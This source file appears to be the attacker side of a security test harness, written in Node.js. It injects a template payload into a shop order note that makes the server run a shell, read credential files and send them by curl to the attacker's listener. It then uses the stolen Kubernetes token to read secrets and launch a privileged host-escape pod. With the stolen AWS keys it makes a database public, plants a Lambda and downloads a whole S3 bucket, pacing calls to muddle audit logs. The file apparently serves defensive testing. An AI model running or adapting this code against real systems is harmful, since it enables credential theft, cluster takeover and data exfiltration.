// The attacker. Posts one order whose note is a program for the mail template; waits for what the email service's shell
// sends; then uses the stolen service-account token and the stolen AWS key from here, outside.
// Settings in ATTACK (JSON): orders, kubernetes?, aws? {endpoint, region, bucket, database, queueArn, lambdaRole}, address,
// files, waitMs, paceMs (between two calls to the cloud). Prints one JSON line per step to stdout. Exits 0 also when nothing came: that is a defended attack.
import { Agent, createServer, request } from 'node:http';
import { setTimeout as delay } from 'node:timers/promises';
import { CreateEventSourceMappingCommand, CreateFunctionCommand, LambdaClient } from '@aws-sdk/client-lambda';
import { ModifyDBInstanceCommand, RDSClient } from '@aws-sdk/client-rds';
import { GetObjectCommand, ListObjectsV2Command, S3Client } from '@aws-sdk/client-s3';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';

const settings = JSON.parse(process.env.ATTACK ?? '{}');
const agent = new Agent({ localAddress: settings.address });

say('began', { attacker: settings.address });
const loot = await listenForLoot();
await postOrder(`Please ring twice. {{ ${payload(loot.port)} }}`);
const stolen = await loot.arrives(settings.waitMs);
loot.close();
if (!stolen) {
  say('stopped', 'nothing came back');
} else {
  const { token, awsKeys } = readLoot(stolen);
  say('loot', { tokenId: token && tokenId(token), accessKeyId: awsKeys?.accessKeyId });
  if (token && settings.kubernetes) await useToken(token);
  if (awsKeys && settings.aws) await useAwsKeys(awsKeys);
}
agent.destroy();

/** An expression for the template: starts a shell that reads both credentials and sends them here. */
function payload(port) {
  const command = `cat ${settings.files.join(' ')} | curl -s -m 60 --data-binary @- http://${settings.address}:${port}/`;
  return `process.mainModule.require('child_process').exec(${JSON.stringify(command)}) && ''`;
}

function listenForLoot() {
  return new Promise((resolve) => {
    let arrived;
    const arrival = new Promise((done) => (arrived = done));
    const server = createServer((incoming, outgoing) => {
      let text = '';
      incoming.setEncoding('utf8').on('data', (part) => (text += part));
      incoming.on('end', () => (outgoing.end('ok'), arrived(text)));
    });
    server.listen(0, settings.address, () =>
      resolve({
        port: server.address().port,
        arrives: (ms) => Promise.race([arrival, delay(ms, undefined, { ref: false })]),
        close: () => (server.closeAllConnections(), server.close()),
      }),
    );
  });
}

async function postOrder(note) {
  const order = {
    customer: { name: 'R. Moriarty', email: 'rm@example.org' },
    items: [{ sku: 'TEA-1', quantity: 1 }],
    note,
  };
  const { status } = await call(
    'POST',
    new URL('/orders', settings.orders),
    { 'content-type': 'application/json' },
    order,
  );
  say('order', { status });
}

function readLoot(text) {
  const token = /\beyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(text)?.[0];
  const accessKeyId = /aws_access_key_id\s*=\s*(\S+)/.exec(text)?.[1];
  const secretAccessKey = /aws_secret_access_key\s*=\s*(\S+)/.exec(text)?.[1];
  return { token, awsKeys: accessKeyId && secretAccessKey ? { accessKeyId, secretAccessKey } : undefined };
}

/** The name under which the API server audits a token's use. */
function tokenId(token) {
  return `JTI=${JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8')).jti}`;
}

async function useToken(token) {
  const core = '/api/v1/namespaces/shop';
  const pod = {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'metrics-helper', namespace: 'shop' },
    spec: {
      hostPID: true,
      hostNetwork: true,
      serviceAccountName: 'email-service',
      volumes: [{ name: 'h', hostPath: { path: '/', type: '' } }],
      containers: [
        {
          name: 'c',
          image: 'alpine:3.20',
          command: ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', 'sh'],
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'h', mountPath: '/host' }],
        },
      ],
    },
  };
  await kubernetes('POST', '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
    kind: 'SelfSubjectRulesReview',
    apiVersion: 'authorization.k8s.io/v1',
    spec: { namespace: 'shop' },
  });
  await kubernetes('GET', `${core}/secrets`);
  await kubernetes('GET', `${core}/secrets/orders-db`);
  await kubernetes('POST', `${core}/pods`, pod);

  async function kubernetes(method, path, body) {
    const headers = {
      authorization: `Bearer ${token}`,
      'content-type': 'application/json',
      'user-agent': 'curl/8.5.0',
    };
    const { status } = await call(method, new URL(path, settings.kubernetes), headers, body);
    say('kubernetes', { method, path, status });
  }
}

async function useAwsKeys(credentials) {
  const { aws } = settings;
  const client = { endpoint: aws.endpoint, region: aws.region, credentials, requestHandler: { httpAgent: agent } };
  await pause();
  const { Arn } = await new STSClient(client).send(new GetCallerIdentityCommand({}));
  say('aws', { call: 'GetCallerIdentity', Arn });

  await pause();
  await new RDSClient(client).send(
    new ModifyDBInstanceCommand({
      DBInstanceIdentifier: aws.database,
      PubliclyAccessible: true,
      ApplyImmediately: true,
    }),
  );
  say('aws', { call: 'ModifyDBInstance' });

  const lambda = new LambdaClient(client);
  await pause();
  await lambda.send(
    new CreateFunctionCommand({
      FunctionName: 'order-metrics',
      Role: aws.lambdaRole,
      Runtime: 'nodejs22.x',
      Handler: 'index.handler',
      // An empty zip archive: its end-of-directory record and nothing else.
      Code: { ZipFile: Buffer.concat([Buffer.from('PK\x05\x06'), Buffer.alloc(18)]) },
    }),
  );
  await pause();
  await lambda.send(
    new CreateEventSourceMappingCommand({ FunctionName: 'order-metrics', EventSourceArn: aws.queueArn, BatchSize: 10 }),
  );
  say('aws', { call: 'CreateFunction, CreateEventSourceMapping' });

  const s3 = new S3Client({ ...client, forcePathStyle: true });
  await pause();
  const { Contents = [] } = await s3.send(new ListObjectsV2Command({ Bucket: aws.bucket }));
  await pause();
  for (const { Key } of Contents) {
    const { Body } = await s3.send(new GetObjectCommand({ Bucket: aws.bucket, Key }));
    await Body.transformToByteArray();
  }
  say('aws', { call: 'ListObjects, GetObject', objects: Contents.length });
}

/** People type slower than CloudTrail's clock ticks, which knows whole seconds only. */
function pause() {
  return delay(settings.paceMs ?? 0);
}

function call(method, url, headers, body) {
  return new Promise((resolve, reject) => {
    const outgoing = request(url, { method, headers, agent }, (response) => {
      let text = '';
      response.setEncoding('utf8').on('data', (part) => (text += part));
      response.on('end', () => resolve({ status: response.statusCode, text }));
    });
    outgoing.on('error', reject);
    outgoing.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

function say(step, details) {
  console.log(JSON.stringify({ step, details }));
}
